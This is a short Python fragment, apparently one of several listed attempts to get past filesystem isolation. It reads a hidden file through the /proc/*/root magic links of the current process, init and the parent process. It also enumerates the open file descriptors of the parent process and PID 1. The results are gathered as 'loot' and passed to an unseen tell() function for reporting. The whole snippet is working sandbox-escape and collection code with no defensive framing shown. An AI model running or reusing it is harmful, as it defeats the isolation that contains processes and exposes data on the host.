# tries: the magic links below /proc that lead round a path
loot = []
for root in ("self/root", "1/root", "thread-self/root", f"{os.getppid()}/root"):
    with suppress(OSError):
        loot.append(open(f"/proc/{root}{HIDDEN}", encoding="utf-8").read())
for pid in (os.getppid(), 1):
    with suppress(OSError):
        loot += [os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd")]
tell(loot)
